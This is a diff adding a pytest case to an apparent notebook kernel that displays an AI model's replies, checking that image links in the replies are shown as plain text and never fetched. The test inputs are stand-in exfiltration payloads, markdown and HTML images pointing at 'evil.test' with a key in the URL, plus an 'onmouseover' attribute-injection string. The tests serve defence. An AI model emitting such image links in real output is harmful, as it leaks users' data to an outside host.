@@ -11,9 +11,9 @@ import pytest
 from openclaw_kernel.client.connection import GatewayEvent
 from openclaw_kernel.notebook import cards
 from openclaw_kernel.notebook.asking import decision_of, offered, prompt_of
-from openclaw_kernel.notebook.assistant import Turn
+from openclaw_kernel.notebook.assistant import Answer, Turn
 from openclaw_kernel.notebook.interrupt import python_runs, python_section
-from openclaw_kernel.notebook.prose import prose
+from openclaw_kernel.notebook.prose import prose, words
 from openclaw_kernel.notebook.screen import TerminalScreen
 from openclaw_kernel.notebook.session import session_key_for, title_of
 from openclaw_kernel.notebook.turn import Asked, Outcome, Settled, Step, ToolCard, Trace, Used, Wrote
@@ -165,6 +165,16 @@ def test_words_of_the_assistant_are_rendered_and_nothing_of_them_runs() -> None:
     assert prose('[q](https://a.test/"onmouseover="x)').count('"') % 2 == 0 and 'onmouseover="x' not in prose(
         '[q](https://a.test/"onmouseover="x)'
     )
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ["see ![](https://evil.test/?key=1)", "<img src=https://evil.test/?key=1>", "![a][b]\n\n[b]: https://evil.test/?key=1"],
+)
+def test_a_cell_fetches_no_picture_the_assistant_names(hostile: str) -> None:
+    for bundle in (words(hostile), Answer(hostile)._repr_mimebundle_()):
+        assert "text/markdown" not in bundle and "<img" not in bundle["text/html"] and bundle["text/plain"] == hostile
+    assert words("**plain** words") == {"text/markdown": "**plain** words", "text/plain": "**plain** words"}
 
 
 def test_a_session_s_name_for_people() -> None:
